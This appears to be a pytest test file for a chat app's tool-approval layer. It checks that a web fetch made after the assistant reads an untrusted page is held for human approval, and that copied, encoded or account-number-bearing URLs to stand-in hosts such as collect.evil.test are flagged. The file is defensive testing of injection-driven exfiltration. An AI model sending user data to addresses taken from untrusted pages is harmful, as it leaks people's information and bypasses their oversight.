"""After the words of strangers, a reading call that sends data to a free destination asks."""

import json
from base64 import b64encode
from collections.abc import Callable, Iterator
from functools import partial
from urllib.parse import quote

import pytest
import pytest_asyncio

from chatapp.calls import ledger, recheck
from chatapp.conversations import intake
from chatapp.engine import engine
from chatapp.engine.runtime import EngineRuntime
from chatapp.journal.lease import Lease
from chatapp.models import Consent, HousePolicy, LogEntry, Member, PolicyRule, ToolCall, Turn
from chatapp.permissions import reasons
from chatapp.policy.copied_values import find_copied_values
from chatapp.policy.stored_policy import Before
from chatapp.server.database import in_database
from mcpconfig.models import Service
from mcpconfig.operations.tool_listing import fetch_tools
from mcpconfig.services.tool_definitions import confirm_tools, list_current_tools
from tests import scripted
from tests.conftest import signed_in
from tests.dom_tree import Element, parse
from tests.markup_in_attributes import find_markup_in_attributes
from tests.peers.serving import Served
from tests.peers.web import ADDRESS, Web
from tests.scripted import calls, text
from tests.turns.acts import get_owner, grant_and_change, wait_for_rest

pytestmark = [pytest.mark.gate, pytest.mark.django_db(transaction=True), pytest.mark.timeout(300)]
State = ToolCall.State
RELATED = ("approval", "service", "definition", "turn__conversation__owner")
READ = ("web_read_page", '{"name":"news"}')
FETCH = ("web_fetch_page", json.dumps({"url": f"{ADDRESS}?d=4417"}, separators=(",", ":")))


@pytest.fixture
def peer() -> Web:
    return Web()


@pytest.fixture
def served(peer: Web) -> Iterator[Served]:
    with Served(peer.application()) as served:
        yield served


@pytest_asyncio.fixture
async def web(runtime: EngineRuntime, served: Served) -> Service:
    made = {
        "name": "web",
        "url": served.url,
        "allows_private_addresses": True,
        "is_open": True,
        "visibility": "everyone",
    }
    service = await in_database(lambda: Service.objects.create(**made))
    await fetch_tools(service)
    await in_database(lambda: confirm_tools(list_current_tools(service)))
    return service


async def list_calls(
    runtime: EngineRuntime, turn: Turn, *wanted: tuple[str, str]
) -> list[ToolCall]:
    """The calls of a turn whose model wanted these, one after the other."""
    scripted.scenes[:] = [*(calls(each) for each in wanted), text("Done.")]
    await wait_for_rest(runtime, turn)
    return await reload(turn)


async def reload(turn: Turn) -> list[ToolCall]:
    rows = ToolCall.objects.filter(turn=turn).select_related(
        "approval", "turn__conversation__owner"
    )
    return await in_database(lambda: list(rows.order_by("step")))


async def ask_again(turn: Turn) -> Turn:
    owner = await in_database(get_owner, turn)
    return await in_database(
        partial(intake.receive, owner, None, text="Again", model=scripted.MODEL)
    )


def allow_hosts(*hosts: str) -> None:
    HousePolicy.objects.update_or_create(pk=1, defaults={"allowed_hosts": "\n".join(hosts)})


async def test_a_fetch_asks_after_a_strangers_page(
    runtime: EngineRuntime, turn: Turn, web: Service, peer: Web
) -> None:
    read, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert (read.state, fetch.state) == (State.SUCCEEDED, State.AWAITING_APPROVAL)
    assert fetch.risk == "low"
    assert fetch.why == reasons.SENDS_TO_ADDRESS % {"service": "web", "names": "url"}
    assert peer.fetched == []
    logged = await in_database(
        lambda: LogEntry.objects.filter(kind="call.decided", call_id=fetch.pk).get()
    )
    assert json.loads(logged.data)["reason"] == fetch.why
    await in_database(partial(grant_and_change, fetch, lambda: None))
    await wait_for_rest(runtime, turn)
    assert peer.fetched == [f"{ADDRESS}?d=4417"]


async def test_without_a_strangers_page_it_runs(
    runtime: EngineRuntime, turn: Turn, web: Service, peer: Web
) -> None:
    (fetch,) = await list_calls(runtime, turn, FETCH)
    assert fetch.state == State.SUCCEEDED
    await in_database(lambda: Service.objects.update(is_open=False))
    scripted.scenes[:] = [calls(READ), calls(FETCH), text("Done.")]
    again = await ask_again(turn)
    await wait_for_rest(runtime, again)
    _, fetch = await reload(again)
    assert fetch.state == State.SUCCEEDED
    assert len(peer.fetched) == 2


@pytest.mark.parametrize(
    ("hosts", "state"),
    [
        (("collect.evil.test",), State.SUCCEEDED),
        (("*.evil.test",), State.SUCCEEDED),
        (("evil.test",), State.AWAITING_APPROVAL),
        (("@collect.evil.test",), State.AWAITING_APPROVAL),
        (("collect.evil.test", "not a host"), State.AWAITING_APPROVAL),
    ],
)
async def test_a_fetch_from_an_allowed_host_runs(
    runtime: EngineRuntime, turn: Turn, web: Service, hosts: tuple[str, ...], state: str
) -> None:
    await in_database(partial(allow_hosts, *hosts))
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert fetch.state == state


@pytest.mark.parametrize(
    ("condition", "state"),
    [
        ('"evil.test" in url', State.SUCCEEDED),
        ('"home.test" in url', State.AWAITING_APPROVAL),
        ("note == null", State.AWAITING_APPROVAL),
        ("", State.AWAITING_APPROVAL),
    ],
)
async def test_a_rule_that_allows_is_about_the_destination(
    runtime: EngineRuntime, turn: Turn, web: Service, condition: str, state: str
) -> None:
    await in_database(
        partial(PolicyRule.objects.create, name="r", effect="allow", condition=condition)
    )
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert fetch.state == state


async def test_what_a_person_allowed_in_advance_covers_no_free_destination(
    runtime: EngineRuntime, turn: Turn, web: Service, peer: Web
) -> None:
    def consent() -> None:
        Consent.objects.create(
            person=turn.conversation.owner,
            service=web,
            endpoint=web.endpoint,
            scope="always",
            definitions={each.name: each.hash for each in list_current_tools(web)},
        )

    await in_database(consent)
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert fetch.state == State.AWAITING_APPROVAL
    assert fetch.approval.is_once_only
    assert peer.fetched == []


@pytest.mark.parametrize(
    ("query", "state"),
    [
        ("opening hours of the museum", State.SUCCEEDED),
        ("account 4417 1234 5678 9113", State.AWAITING_APPROVAL),
    ],
)
async def test_a_web_search_asks_when_it_carries_more_than_words(
    runtime: EngineRuntime, turn: Turn, web: Service, query: str, state: str
) -> None:
    search = ("web_web_search", json.dumps({"query": query}))
    _, found = await list_calls(runtime, turn, READ, search)
    assert found.state == state


async def test_a_host_removed_before_the_run_makes_the_call_ask(
    runtime: EngineRuntime, turn: Turn, web: Service, peer: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The decision is checked again in the transaction that makes the permit."""
    await in_database(partial(allow_hosts, "*.evil.test"))
    decided = change_before_permit(monkeypatch, partial(allow_hosts, "elsewhere.test"))
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert decided == [State.APPROVED]
    assert fetch.state == State.AWAITING_APPROVAL
    assert "may have chosen" in fetch.why
    assert peer.fetched == []


def change_before_permit(monkeypatch: pytest.MonkeyPatch, change: Callable[[], None]) -> list[str]:
    """Make this change after the decision about a fetch, before it is checked again. Return the
    states of the fetch at that time."""
    # In two transactions, as where something has to be read from the service between them.
    monkeypatch.setattr(engine, "decide_and_begin", lambda *_: None)
    check, states = recheck.may_run, list[str]()

    def change_first(
        lease: Lease, turn: Turn, call: ToolCall, person: Member, before: Before | None = None
    ) -> bool:
        if call.tool_name == "fetch_page" and not states:
            states.append(call.state)
            change()
        return check(lease, turn, call, person, before)

    monkeypatch.setattr(ledger, "may_run", change_first)
    return states


# --- the marks on the card ---------------------------------------------------------------------
async def draw_card(call: ToolCall) -> Element:
    """The card as a page draws it, in which no attribute has markup."""

    def get() -> str:
        page = signed_in(call.turn.conversation.owner).get(f"/approvals/{call.pk}/")
        return page.content.decode()

    html = await in_database(get)
    assert find_markup_in_attributes(html) == []
    return parse(html).one("section", id=f"tool-call-{call.pk}")


def fetch_with(**values: str) -> tuple[str, str]:
    return "web_fetch_page", json.dumps(values)


@pytest.mark.parametrize(
    ("url", "is_marked"),
    [
        (f"{ADDRESS}?d=x", True),
        (quote(ADDRESS, safe=""), True),
        ("https://other.test/?d=4417-1234-5678-9113", True),
        (f"https://other.test/?d={b64encode(ADDRESS.encode()).decode()}", True),
        ("https://other.test/", False),
    ],
)
async def test_the_card_marks_an_address_that_was_copied_from_the_page(
    runtime: EngineRuntime, turn: Turn, web: Service, url: str, is_marked: bool
) -> None:
    _, fetch = await list_calls(runtime, turn, READ, fetch_with(url=url, note="account 4417"))
    card = await draw_card(fetch)
    marks = [each.text for each in card.all("p", class_="copied")]
    said = (
        "Copied from untrusted content. This value, or part of it, is in the result of "
        "read_page (web)."
    )
    assert marks == ([said] if is_marked else [])
    owner = fetch.turn.conversation.owner
    bound = await in_database(partial(recheck.compute_current_binding, fetch, owner))
    assert bound == fetch.approval.binding, "The mark changes nothing of what is bound."


async def test_a_result_of_four_megabytes_is_searched(
    runtime: EngineRuntime, turn: Turn, web: Service
) -> None:
    read, fetch = await list_calls(runtime, turn, READ, FETCH)
    text = "lorem ipsum dolor " * 110_000 + ADDRESS + "z" * 2_000_000
    result = {"content": [{"type": "text", "text": text}]}
    await in_database(lambda: ToolCall.objects.filter(pk=read.pk).update(result=result))
    assert len((await draw_card(fetch)).all("p", class_="copied")) == 1
    hostile = {"content": [{"type": "text", "text": "abcdeg" * 700_000}]}
    await in_database(lambda: ToolCall.objects.filter(pk=read.pk).update(result=hostile))
    assert not (await draw_card(fetch)).all("p", class_="copied")


async def test_values_that_cannot_be_read_mark_nothing(
    runtime: EngineRuntime, turn: Turn, web: Service, caplog: pytest.LogCaptureFixture
) -> None:
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    assert await in_database(find_copied_values, [fetch]) == {fetch.pk: {"url": "read_page (web)"}}
    fetch.arguments = "7"
    assert await in_database(find_copied_values, [fetch]) == {fetch.pk: None}
    assert "could not be found" in caplog.text


async def test_without_untrusted_content_no_value_is_read(
    runtime: EngineRuntime, turn: Turn, web: Service, caplog: pytest.LogCaptureFixture
) -> None:
    (fetch,) = await list_calls(runtime, turn, FETCH)
    fetch.arguments = "7"
    assert await in_database(find_copied_values, [fetch]) == {fetch.pk: {}}
    assert "could not be" not in caplog.text


async def test_the_name_in_the_mark_is_text(
    runtime: EngineRuntime, turn: Turn, web: Service
) -> None:
    title = 'W<b x="1">eb\u202e'
    await in_database(lambda: Service.objects.update(title=title))
    _, fetch = await list_calls(runtime, turn, READ, FETCH)
    card = await draw_card(fetch)
    (mark,) = card.all("p", class_="copied")
    assert 'read_page (W<b x="1">eb⟨U+202E⟩)' in mark.text


async def test_a_result_of_a_service_without_strangers_marks_nothing(
    runtime: EngineRuntime, turn: Turn, web: Service
) -> None:
    await in_database(lambda: HousePolicy(asks_everything=True).save())
    await in_database(lambda: Service.objects.update(is_open=False))
    (read,) = await list_calls(runtime, turn, READ)
    scripted.scenes[:] = [calls(FETCH), text("Done.")]
    await in_database(partial(grant_and_change, read, lambda: None))
    await wait_for_rest(runtime, turn)
    _, fetch = await reload(turn)
    assert fetch.state == State.AWAITING_APPROVAL
    assert not (await draw_card(fetch)).all("p", class_="copied")
